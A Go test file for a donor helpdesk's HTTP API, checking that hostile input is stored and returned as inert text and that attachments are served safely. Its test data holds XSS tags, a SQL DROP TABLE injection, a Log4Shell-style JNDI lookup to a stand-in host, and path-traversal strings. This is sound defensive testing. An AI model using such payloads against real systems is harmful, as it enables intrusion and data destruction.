package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/steward-desk/steward/internal/db"
	"github.com/steward-desk/steward/internal/db/dbtest"
	"github.com/steward-desk/steward/internal/ticket"
)

// hostile are strings that must be stored and returned byte for byte, never
// interpreted: markup, SQL, template and format syntax, JSON-breaking
// characters, bidi overrides, zero-width and astral characters, line separators.
var hostile = []string{
	`<script>alert("x")</script><img src=x onerror=alert(1)>`,
	`'; DROP TABLE tickets; --`,
	`" OR 1=1 -- \" \\ \u0000 literally`,
	`{{.Secret}} ${jndi:ldap://evil/a} %s %d %n %!`,
	"\u202eevil\u202c \u200b\u200d👩‍👩‍👧 𠮷野家 \u2028 \u2029",
	`</textarea><svg/onload=alert(1)>&amp;&lt;`,
	"../../etc/passwd\\..\\..\\windows",
	"寄付金の領収書について <b>太字</b> 关于捐款收据 & 其他",
}

func TestHostileStringsRoundTrip(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		for i, s := range hostile {
			body := s + "\n\n" + s
			var tk ticketOut
			res := f.do(req{Method: "POST", Path: "/tickets", Token: f.agentTok, Body: map[string]any{
				"subject": s, "body": body, "tags": []string{fmt.Sprintf("t%d", i)},
				"supporter": map[string]any{"name": s, "email": fmt.Sprintf("h%d@example.org", i)},
			}}).want(t, http.StatusCreated)
			res.json(t, &tk)
			if bytes.Contains(res.Body, []byte("<script")) || bytes.Contains(res.Body, []byte("<svg")) {
				t.Errorf("markup not escaped in JSON: %s", res.Body)
			}
			var got ticketOut
			f.do(req{Method: "GET", Path: fmt.Sprintf("/tickets/%d", tk.ID), Token: f.agentTok}).want(t, 200).json(t, &got)
			// Subjects and names are trimmed (U+2028 and U+2029 are spaces too); nothing else changes.
			if got.Subject != strings.TrimSpace(s) {
				t.Errorf("subject %q came back as %q", s, got.Subject)
			}
			if got.Messages[0].BodyText != body {
				t.Errorf("body %q came back as %q", body, got.Messages[0].BodyText)
			}
			if got.Supporter.Name != strings.TrimSpace(s) {
				t.Errorf("name %q came back as %q", s, got.Supporter.Name)
			}
			var m messageOut
			f.do(req{Method: "POST", Path: fmt.Sprintf("/tickets/%d/messages", tk.ID), Token: f.agentTok,
				Body: map[string]any{"body": s, "internal": i%2 == 0}}).want(t, http.StatusCreated).json(t, &m)
			if m.BodyText != s {
				t.Errorf("reply %q came back as %q", s, m.BodyText)
			}
		}
		// Searching with hostile text finds by substring and breaks nothing.
		var page struct{ Items []struct{ Name string } }
		f.do(req{Method: "GET", Path: "/supporters?q=" + url.QueryEscape(`'; DROP`), Token: f.agentTok}).want(t, 200).json(t, &page)
		if len(page.Items) != 1 || page.Items[0].Name != hostile[1] {
			t.Errorf("search for SQL text: %+v", page.Items)
		}
		f.do(req{Method: "GET", Path: "/supporters?q=" + url.QueryEscape(`%_\`), Token: f.agentTok}).want(t, 200).json(t, &page)
		if len(page.Items) != 0 {
			t.Errorf("LIKE wildcards matched %d supporters", len(page.Items))
		}
	})
}

func TestSupporters(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		type supOut struct {
			ID             int64   `json:"id"`
			Name           string  `json:"name"`
			Email          string  `json:"email"`
			Language       string  `json:"language"`
			SupporterSince *string `json:"supporter_since"`
			Notes          string  `json:"notes"`
			Identities     []struct {
				Kind, Value string
			} `json:"identities"`
			RecentTickets []ticketOut `json:"recent_tickets"`
		}
		var sato supOut
		res := f.do(req{Method: "POST", Path: "/supporters", Token: f.agentTok, Body: map[string]any{
			"name": "佐藤 花子", "email": "hanako.sato@example.jp", "phone": "０３-１２３４-５６７８", "language": "ja", "supporter_since": "2019-04-01",
		}}).want(t, http.StatusCreated)
		res.json(t, &sato)
		if sato.SupporterSince == nil || *sato.SupporterSince != "2019-04-01T00:00:00.000Z" || len(sato.Identities) != 2 ||
			sato.Identities[1].Value != "0312345678" || res.Header.Get("Location") != fmt.Sprintf("/api/v1/supporters/%d", sato.ID) {
			t.Fatalf("created %+v", sato)
		}
		for i := range 4 {
			f.do(req{Method: "POST", Path: "/supporters", Token: f.agentTok, Body: map[string]any{
				"name": fmt.Sprintf("王芳 %d", i), "email": fmt.Sprintf("wang%d@example.cn", i), "language": "zh",
			}}).want(t, http.StatusCreated)
		}
		// A ticket by supporter_id shows in the supporter's recent tickets.
		var tk ticketOut
		f.do(req{Method: "POST", Path: "/tickets", Token: f.agentTok, Body: map[string]any{"subject": jaSubject, "body": jaBody, "supporter_id": sato.ID}}).
			want(t, http.StatusCreated).json(t, &tk)
		var got supOut
		f.do(req{Method: "GET", Path: fmt.Sprintf("/supporters/%d", sato.ID), Token: f.agentTok}).want(t, 200).json(t, &got)
		if len(got.RecentTickets) != 1 || got.RecentTickets[0].ID != tk.ID || got.RecentTickets[0].Subject != jaSubject {
			t.Errorf("recent tickets %+v", got.RecentTickets)
		}
		// Search by CJK name, by email, by phone in another notation.
		for q, want := range map[string]int{"王芳": 4, "佐藤": 1, "HANAKO": 1, "03 1234": 1, "nobody": 0} {
			var page struct {
				Items      []supOut `json:"items"`
				NextCursor *string  `json:"next_cursor"`
			}
			f.do(req{Method: "GET", Path: "/supporters?q=" + url.QueryEscape(q), Token: f.agentTok}).want(t, 200).json(t, &page)
			if len(page.Items) != want {
				t.Errorf("q=%s: %d supporters, want %d", q, len(page.Items), want)
			}
		}
		// Pages of two: 5 supporters, 3 pages.
		seen, cursor := map[int64]bool{}, ""
		for pages := 1; ; pages++ {
			var page struct {
				Items      []supOut `json:"items"`
				NextCursor *string  `json:"next_cursor"`
			}
			f.do(req{Method: "GET", Path: "/supporters?limit=2&cursor=" + cursor, Token: f.agentTok}).want(t, 200).json(t, &page)
			for _, s := range page.Items {
				seen[s.ID] = true
			}
			if page.NextCursor == nil {
				if pages != 3 || len(seen) != 5 {
					t.Errorf("%d pages, %d supporters", pages, len(seen))
				}
				break
			}
			cursor = *page.NextCursor
		}
		// Patch: null clears notes; supporter_since changes; email and id stay.
		f.do(req{Method: "PATCH", Path: fmt.Sprintf("/supporters/%d", sato.ID), Token: f.agentTok, Body: `{"notes":"大口寄付者"}`}).want(t, 200)
		f.do(req{Method: "PATCH", Path: fmt.Sprintf("/supporters/%d", sato.ID), Token: f.agentTok,
			Body: `{"notes":null,"name":"佐藤 花子（旧姓 鈴木）","supporter_since":"2018-01-15T09:00:00+09:00"}`}).want(t, 200).json(t, &got)
		if got.Notes != "" || got.Name != "佐藤 花子（旧姓 鈴木）" || *got.SupporterSince != "2018-01-15T00:00:00.000Z" || got.Email != "hanako.sato@example.jp" {
			t.Errorf("patched %+v", got)
		}
		f.do(req{Method: "PATCH", Path: fmt.Sprintf("/supporters/%d", sato.ID), Token: f.agentTok, Body: `{"language":"fr"}`}).want(t, 422)
		f.do(req{Method: "PATCH", Path: "/supporters/999999", Token: f.agentTok, Body: `{"notes":"x"}`}).want(t, 404)
	})
}

func TestStaffAndSettings(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		type userOut struct {
			ID            int64   `json:"id"`
			Email         string  `json:"email"`
			Name          string  `json:"name"`
			Role          string  `json:"role"`
			Active        bool    `json:"active"`
			DepartmentIDs []int64 `json:"department_ids"`
		}
		var me userOut
		f.do(req{Method: "GET", Path: "/me", Token: f.agentTok}).want(t, 200).json(t, &me)
		if me.ID != f.agent.ID || me.Role != "agent" || me.Name != "山田 愛子" {
			t.Errorf("me %+v", me)
		}
		var dept struct {
			ID      int64  `json:"id"`
			Name    string `json:"name"`
			Members int    `json:"members"`
		}
		f.do(req{Method: "POST", Path: "/departments", Token: f.adminTok, Body: map[string]any{"name": "ファンドレイジング"}}).want(t, 201).json(t, &dept)
		f.do(req{Method: "POST", Path: "/departments", Token: f.adminTok, Body: map[string]any{"name": "ファンドレイジング"}}).want(t, 409)
		f.do(req{Method: "PATCH", Path: fmt.Sprintf("/departments/%d", dept.ID), Token: f.adminTok, Body: `{"name":"募金部"}`}).want(t, 200).json(t, &dept)
		if dept.Name != "募金部" {
			t.Errorf("renamed department %+v", dept)
		}
		var u userOut
		f.do(req{Method: "POST", Path: "/users", Token: f.adminTok, Body: map[string]any{
			"email": "Li.Wei@example.org", "name": "李伟", "department_ids": []int64{dept.ID}, "password": "correct horse battery",
		}}).want(t, 201).json(t, &u)
		if u.Role != "agent" || u.Email != "li.wei@example.org" || len(u.DepartmentIDs) != 1 || !u.Active {
			t.Errorf("new user %+v", u)
		}
		f.do(req{Method: "PATCH", Path: fmt.Sprintf("/users/%d", u.ID), Token: f.adminTok, Body: `{"role":"admin","department_ids":null}`}).want(t, 200).json(t, &u)
		if u.Role != "admin" || len(u.DepartmentIDs) != 0 {
			t.Errorf("patched user %+v", u)
		}
		var users struct {
			Items      []userOut `json:"items"`
			NextCursor *string   `json:"next_cursor"`
		}
		f.do(req{Method: "GET", Path: "/users", Token: f.agentTok}).want(t, 200).json(t, &users)
		if len(users.Items) != 3 {
			t.Errorf("%d users", len(users.Items))
		}
		var depts struct{ Items []struct{ Members int } }
		f.do(req{Method: "GET", Path: "/departments", Token: f.agentTok}).want(t, 200).json(t, &depts)
		if len(depts.Items) != 1 || depts.Items[0].Members != 0 {
			t.Errorf("departments %+v", depts)
		}

		var st settingsJSON
		f.do(req{Method: "GET", Path: "/settings", Token: f.agentTok}).want(t, 200).json(t, &st)
		if st.FirstReplyMinutes != 1440 {
			t.Errorf("settings %+v", st)
		}
		f.do(req{Method: "PATCH", Path: "/settings", Token: f.adminTok, Body: map[string]any{
			"name": "あおぞら子ども基金", "time_zone": "Asia/Tokyo", "default_language": "ja", "first_reply_minutes": 480,
		}}).want(t, 200).json(t, &st)
		if st.Name != "あおぞら子ども基金" || st.TimeZone != "Asia/Tokyo" || st.FirstReplyMinutes != 480 || len(st.Languages) != 3 {
			t.Errorf("patched settings %+v", st)
		}
		// With a second admin, the first may step down.
		f.do(req{Method: "PATCH", Path: fmt.Sprintf("/users/%d", f.admin.ID), Token: f.adminTok, Body: `{"role":"supervisor"}`}).want(t, 200)
		f.do(req{Method: "GET", Path: "/me", Token: f.adminTok}).want(t, 200).json(t, &me)
		if me.Role != "supervisor" {
			t.Errorf("stepped-down admin is %s", me.Role)
		}
	})
}

func TestAttachmentDownload(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		f := newFixture(t, d)
		ctx := context.Background()
		var tk ticketOut
		f.do(req{Method: "POST", Path: "/tickets", Token: f.agentTok, Body: map[string]any{
			"subject": jaSubject, "body": jaBody, "supporter": map[string]any{"email": "hanako.sato@example.jp"},
		}}).want(t, http.StatusCreated).json(t, &tk)
		msgID := tk.Messages[0].ID
		add := func(name, ctype, content string) int64 {
			sum, n, err := f.blobs.Put(strings.NewReader(content), 0)
			if err != nil {
				t.Fatal(err)
			}
			a, err := ticket.AddAttachment(ctx, d.W, ticket.Attachment{MessageID: msgID, Filename: name, ContentType: ctype, Size: n, SHA256: sum})
			if err != nil {
				t.Fatal(err)
			}
			return a.ID
		}
		html := add("領収書.html", "text/html; charset=utf-8", "<script>alert(1)</script>")
		svg := add("logo.svg", "image/svg+xml", "<svg onload=alert(1)/>")
		png := add("photo.png", "image/png", "\x89PNG\r\n\x1a\n")
		odd := add(`../../"evil"`+"\r\n.txt", "text/plain; charset=shift_jis", "hello")

		var got ticketOut
		f.do(req{Method: "GET", Path: fmt.Sprintf("/tickets/%d", tk.ID), Token: f.agentTok}).want(t, 200).json(t, &got)
		atts := got.Messages[0].Attachments
		if len(atts) != 4 || atts[0].Filename != "領収書.html" || atts[0].URL != fmt.Sprintf("/api/v1/attachments/%d", html) || atts[0].Size != 25 {
			t.Fatalf("attachments %+v", atts)
		}

		for _, c := range []struct {
			id          int64
			ctype, disp string
			body        string
		}{
			{html, "application/octet-stream", `attachment; filename*=utf-8''%E9%A0%98%E5%8F%8E%E6%9B%B8.html`, "<script>alert(1)</script>"},
			{svg, "application/octet-stream", `attachment; filename=logo.svg`, "<svg onload=alert(1)/>"},
			{png, "image/png", `inline; filename=photo.png`, "\x89PNG\r\n\x1a\n"},
			{odd, "text/plain; charset=shift_jis", `inline; filename=evil.txt`, "hello"},
		} {
			res := f.do(req{Method: "GET", Path: fmt.Sprintf("/attachments/%d", c.id), Token: f.agentTok}).want(t, 200)
			h := res.Header
			if h.Get("Content-Type") != c.ctype || h.Get("Content-Disposition") != c.disp || h.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.Contains(h.Get("Content-Security-Policy"), "sandbox") || string(res.Body) != c.body {
				t.Errorf("attachment %d: type %q disposition %q nosniff %q body %q", c.id, h.Get("Content-Type"), h.Get("Content-Disposition"),
					h.Get("X-Content-Type-Options"), res.Body)
			}
		}
		// Without a token, nothing.
		f.do(req{Method: "GET", Path: fmt.Sprintf("/attachments/%d", html)}).want(t, 401)
		// Range requests work (voicemail players seek).
		res := f.do(req{Method: "GET", Path: fmt.Sprintf("/attachments/%d", html), Token: f.agentTok, Header: map[string]string{"Range": "bytes=0-7"}}).want(t, 206)
		if string(res.Body) != "<script>" {
			t.Errorf("range body %q", res.Body)
		}
		// A server fault is a 500 with a request id to quote, and no internal detail.
		var logged bytes.Buffer
		broken := New(Deps{DB: d, Tickets: &ticket.Service{DB: d}, Log: slog.New(slog.NewTextHandler(&logged, nil))})
		rec := httptest.NewRecorder()
		hr := httptest.NewRequest("GET", fmt.Sprintf("/attachments/%d", png), nil)
		hr.Header.Set("Authorization", "Bearer "+f.agentTok)
		broken.Handler().ServeHTTP(rec, hr)
		var e struct{ Error errorDetail }
		json.Unmarshal(rec.Body.Bytes(), &e)
		if rec.Code != 500 || e.Error.Code != "internal" || e.Error.RequestID == "" || strings.Contains(rec.Body.String(), "blob") ||
			rec.Header().Get("X-Request-Id") != e.Error.RequestID || !strings.Contains(logged.String(), e.Error.RequestID) {
			t.Errorf("server fault: %d %s (log %s)", rec.Code, rec.Body, logged.String())
		}
	})
}

// TestValidatorCatchesDrift proves the response check in every test would
// notice an undocumented field, a missing one, or a wrong type.
func TestValidatorCatchesDrift(t *testing.T) {
	d := doc(t)
	ticket := map[string]any{}
	good := ticketView(ticketFixture())
	b, _ := json.Marshal(good)
	json.Unmarshal(b, &ticket)
	if err := validate(d, map[string]any{"$ref": "#/components/schemas/Ticket"}, ticket, "t", false); err != nil {
		t.Fatalf("a good ticket fails: %v", err)
	}
	for name, mutate := range map[string]func(map[string]any){
		"extra field":   func(m map[string]any) { m["internal_secret"] = 1 },
		"missing field": func(m map[string]any) { delete(m, "status") },
		"wrong type":    func(m map[string]any) { m["number"] = "1042" },
		"bad enum":      func(m map[string]any) { m["status"] = "done" },
		"local time":    func(m map[string]any) { m["created_at"] = "2026-11-25T10:00:00+09:00" },
		"nested extra":  func(m map[string]any) { m["supporter"].(map[string]any)["phone"] = "1" },
	} {
		m := map[string]any{}
		json.Unmarshal(b, &m)
		mutate(m)
		if err := validate(d, map[string]any{"$ref": "#/components/schemas/Ticket"}, m, "t", false); err == nil {
			t.Errorf("%s: not caught", name)
		}
	}
}

func ticketFixture() ticket.Ticket {
	return ticket.Ticket{ID: 1, Number: 1042, Subject: jaSubject, Status: ticket.StatusNew, Priority: "normal", Type: "inquiry",
		Channel: "email", Tags: []string{"receipt"}, SupporterID: 7, SupporterName: "佐藤 花子"}
}
